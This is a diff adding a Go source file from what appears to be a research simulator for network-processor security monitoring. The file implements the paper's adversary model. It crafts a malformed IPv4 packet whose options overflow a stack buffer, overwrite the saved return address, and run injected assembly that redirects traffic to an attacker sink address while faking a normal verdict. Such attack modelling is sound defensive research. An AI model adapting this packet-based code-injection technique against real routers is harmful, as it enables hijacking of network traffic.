@@ -1,0 +1,121 @@
+// Package attack implements the adversary models of the paper's security
+// analysis: the data-plane stack-smashing attack (§1, after Chasaki & Wolf)
+// that hijacks a network processor core with a single malformed packet, and
+// the hash-matching attack engineering of §3.2 (an instruction sequence
+// whose hashes are "identical to the hash values expected by the monitor"),
+// which quantifies why per-router hash parameters are needed (SR2).
+package attack
+
+import (
+	"encoding/binary"
+	"fmt"
+
+	"sdmmon/internal/apps"
+	"sdmmon/internal/asm"
+	"sdmmon/internal/isa"
+	"sdmmon/internal/packet"
+)
+
+// SmashConfig is the attacker's knowledge of the target platform layout —
+// realistic for a homogeneous fleet of identical routers (§1).
+type SmashConfig struct {
+	// PktBase is the fixed address the dispatcher DMA-writes packets to.
+	PktBase uint32
+	// RAOffsetInOptions is the byte offset within the IP options field
+	// whose four bytes land on the saved return address: the vulnerable
+	// app copies options to a 16-byte buffer at $sp and keeps $ra at
+	// 20($sp).
+	RAOffsetInOptions int
+}
+
+// DefaultSmash targets the built-in ipv4cm application.
+func DefaultSmash() SmashConfig {
+	return SmashConfig{PktBase: apps.PktBase, RAOffsetInOptions: 20}
+}
+
+// optionLen is the attack's option-field size: 24 bytes (IHL = 11). The
+// dispatcher parks $sp at the top of core memory, so the 16-byte buffer
+// overflow may extend exactly to the saved $ra at bytes 20..23 — longer
+// options would run past the top of RAM and fault before the function
+// returns.
+const optionLen = 24
+
+// codeOffset is where attacker code lands inside the packet: right after
+// the 20+24-byte header.
+const codeOffset = 20 + optionLen
+
+// CodeAddr returns the memory address of the injected code.
+func (c SmashConfig) CodeAddr() uint32 { return c.PktBase + codeOffset }
+
+// CraftPacket builds the malformed attack packet: a maximal IP header whose
+// options overflow the on-stack buffer, overwrite the saved return address
+// with the payload address, and whose payload is the attacker's machine
+// code.
+func (c SmashConfig) CraftPacket(code []isa.Word) ([]byte, error) {
+	if len(code) == 0 {
+		return nil, fmt.Errorf("attack: empty payload")
+	}
+	opts := make([]byte, optionLen)
+	for i := range opts {
+		opts[i] = 0x01 // NOP options; innocuous filler
+	}
+	if c.RAOffsetInOptions+4 > len(opts) {
+		return nil, fmt.Errorf("attack: ra offset %d outside options", c.RAOffsetInOptions)
+	}
+	binary.BigEndian.PutUint32(opts[c.RAOffsetInOptions:], c.CodeAddr())
+
+	payload := make([]byte, 4*len(code))
+	for i, w := range code {
+		binary.BigEndian.PutUint32(payload[4*i:], uint32(w))
+	}
+	p := &packet.IPv4{
+		TOS:     0,
+		ID:      0x6666,
+		TTL:     17,
+		Proto:   packet.ProtoUDP,
+		Src:     packet.IP(10, 66, 66, 66),
+		Dst:     packet.IP(192, 168, 1, 1),
+		Options: opts,
+		Payload: payload,
+	}
+	return p.Marshal()
+}
+
+// HijackPayload is the default attacker code: redirect the packet to the
+// attacker's sink address, report a normal "forward" verdict and terminate
+// cleanly — the core believes processing succeeded. Assembled at the
+// injected-code address so branches (if any) resolve correctly.
+func (c SmashConfig) HijackPayload() ([]isa.Word, error) {
+	src := fmt.Sprintf(`
+	.text 0x%x
+main:
+	li $t0, 0x%x          # packet base
+	li $t1, 0x0A424242    # attacker sink 10.66.66.66
+	sw $t1, 16($t0)       # rewrite destination IP
+	li $v0, 1             # pretend the verdict is "forward"
+	break
+`, c.CodeAddr(), c.PktBase)
+	prog, err := asm.Assemble(src)
+	if err != nil {
+		return nil, fmt.Errorf("attack: payload: %w", err)
+	}
+	var code []isa.Word
+	for _, cw := range prog.CodeWords() {
+		code = append(code, cw.W)
+	}
+	return code, nil
+}
+
+// SinkIP is the destination the hijack payload rewrites packets to.
+var SinkIP = packet.IP(10, 0x42, 0x42, 0x42)
+
+// Succeeded reports whether a processed packet shows the hijack outcome:
+// forwarded with the destination rewritten to the attacker sink.
+func Succeeded(res apps.PacketResult) bool {
+	if res.Verdict != apps.VerdictForward || len(res.Packet) < 20 {
+		return false
+	}
+	var dst [4]byte
+	copy(dst[:], res.Packet[16:20])
+	return dst == SinkIP
+}
